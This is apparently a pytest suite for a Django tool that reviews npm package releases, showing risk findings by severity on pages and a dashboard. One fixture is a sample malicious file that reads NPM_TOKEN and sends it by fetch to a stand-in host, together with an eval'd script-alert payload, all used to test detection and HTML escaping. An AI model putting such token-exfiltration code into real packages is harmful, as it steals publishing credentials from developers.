"""Risk findings on the pages: the stage page leads with them (grouped by severity, new first,
each linking to its line in the diff, existing ones collapsed), the diff marks the line, the tree
marks the file and can show only files with findings, the dashboard shows, sorts and filters by
risk. Everything from the tarball is escaped."""

from __future__ import annotations

import re

import pytest
from django.test import Client
from django.urls import reverse

from reviews.models import Analysis, StageBaseline, StagedVersion
from tests.personas import World
from tests.review.support import make_stage, reviewed
from tests.review.test_pages import file_page, file_url, page
from tests.support.packages import build_tarball

pytestmark = pytest.mark.django_db

RUNNER = "const cp = require('child_process')\ncp.execSync('make')\n"
EXFIL = (
    "// report usage\n"
    "const token = process.env.NPM_TOKEN\n"
    "fetch('https://stats.example/?t=' + token)\n"
    'eval("<script>alert(1)</script>")\n'
)


@pytest.fixture
def risky(world: World) -> StagedVersion:
    """@acme/risky 1.1.0: a new exfiltrating file, a runner already in 1.0.0 (touched)."""
    stage = make_stage("@acme/risky", "1.1.0")
    old = build_tarball("@acme/risky", "1.0.0", {"run.js": RUNNER, "a.js": "1\n"})
    new = build_tarball(
        "@acme/risky",
        "1.1.0",
        {"run.js": RUNNER + "// touched\n", "a.js": "1\n", "lib/report.js": EXFIL},
    )
    reviewed(stage, new, old)
    return stage


def section(html: str, start: str, end: str) -> str:
    return html[html.index(start) : html.index(end, html.index(start))]


def test_the_risk_comes_first_with_findings_by_severity(viewer: Client, risky):
    html = page(viewer, risky)

    assert html.index('id="risk"') < html.index('id="review-head"')
    assert html.index('id="risk"') < html.index('class="integrity')
    risk = section(html, 'id="risk"', "</section>")
    assert 'risk-badge-critical">critical</span>' in risk
    headings = re.findall(r'<h3 class="severity severity-(\w+)"', risk)
    assert headings == ["critical", "high", "medium", "info"]
    first = risk.index("code.exfiltration")
    assert first < risk.index("code.dynamic-code") < risk.index("code.env-token")


def test_each_finding_links_to_its_line_in_the_diff(viewer: Client, risky):
    html = page(viewer, risky)

    href = file_url(risky, "lib/report.js") + "#L3"
    assert f'<a class="finding-where" href="{href}"><code>lib/report.js:3</code></a>' in html
    diff = file_page(viewer, risky, "lib/report.js").content.decode()
    row = re.search(
        r'<tr class="gr-line gr-added gr-finding" title="([^"]*)"[^>]*>.{0,200}id="L3"', diff
    )
    assert row is not None
    assert "critical (new): Reads NPM_TOKEN" in row.group(1)


def test_existing_findings_are_collapsed_under_a_count(viewer: Client, risky):
    html = page(viewer, risky)

    existing = section(html, '<details class="risk-existing">', "</details>")
    assert "2 existing findings" in existing
    assert existing.count('class="risk-finding status-existing') == 2
    assert "run.js:2" in existing
    visible = section(html, 'id="risk"', '<details class="risk-existing">')
    assert "run.js" not in visible


def test_tarball_text_in_findings_is_escaped(viewer: Client, risky):
    html = page(viewer, risky)

    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_the_tree_marks_files_with_findings_and_can_show_only_them(viewer: Client, risky):
    everything = page(viewer, risky, changed="0")
    only = page(viewer, risky, changed="0", findings="1")

    report = re.search(r'data-path="lib/report.js".*?</li>', everything)
    assert report is not None
    assert 'class="gr-risk gr-risk-critical"' in report.group()
    run = re.search(r'data-path="run.js".*?</li>', everything)
    assert run is not None
    assert "gr-risk-existing" in run.group()
    assert 'data-path="a.js"' in everything
    assert 'data-path="a.js"' not in only
    assert 'data-path="lib/report.js"' in only


def test_an_analysis_made_before_the_rules_says_so(viewer: Client, risky):
    Analysis.objects.update(risk_findings=None, risk="")

    html = page(viewer, risky)

    assert "The risk rules did not run on this analysis" in html


def test_a_clean_release_says_none_found(viewer: Client, world: World):
    stage = make_stage("@acme/clean", "1.1.0")
    reviewed(
        stage,
        build_tarball("@acme/clean", "1.1.0", {"a.js": "2\n"}),
        build_tarball("@acme/clean", "1.0.0", {"a.js": "1\n"}),
    )

    html = page(viewer, stage)

    assert 'risk-badge-none">none found</span>' in html
    assert "No new or changed findings." in html


# -- The dashboard ------------------------------------------------------------------------------


def dashboard(client: Client, **query: str) -> str:
    return client.get(reverse("reviews:dashboard"), query).content.decode()


@pytest.fixture
def three(world: World, risky) -> dict[str, StagedVersion]:
    clean = make_stage("@acme/clean", "1.1.0")
    reviewed(
        clean,
        build_tarball("@acme/clean", "1.1.0", {"a.js": "2\n"}),
        build_tarball("@acme/clean", "1.0.0", {"a.js": "1\n"}),
    )
    waiting = make_stage("@acme/waiting", "1.0.0")
    return {"risky": risky, "clean": clean, "waiting": waiting}


def rows(html: str) -> list[str]:
    """The three stages of `three`, in the order the dashboard lists them."""
    names = re.findall(r'<td><a href="[^"]+">(@acme/[\w-]+)</a></td>', html)
    return [name for name in names if name in ("@acme/risky", "@acme/clean", "@acme/waiting")]


def test_the_dashboard_shows_each_stages_risk(viewer: Client, three):
    html = dashboard(viewer)

    assert re.search(r"@acme/risky</a>.*?risk-badge-critical\">critical<", html, re.S)
    assert re.search(r"@acme/clean</a>.*?risk-badge-none\">none<", html, re.S)
    assert re.search(r'@acme/waiting</a>.*?title="not analysed yet"', html, re.S)


def test_the_dashboard_sorts_and_filters_by_risk(viewer: Client, three):
    assert rows(dashboard(viewer, sort="risk")) == ["@acme/risky", "@acme/clean", "@acme/waiting"]
    assert rows(dashboard(viewer, risk="high")) == ["@acme/risky"]
    assert rows(dashboard(viewer, risk="none")) == ["@acme/clean"]
    assert rows(dashboard(viewer, risk="unknown")) == ["@acme/waiting"]


def test_the_stage_risk_is_kept_with_its_rank(three):
    ranks = dict(StageBaseline.objects.values_list("stage__package_name", "risk_rank"))

    assert ranks == {"@acme/risky": 5, "@acme/clean": 0}
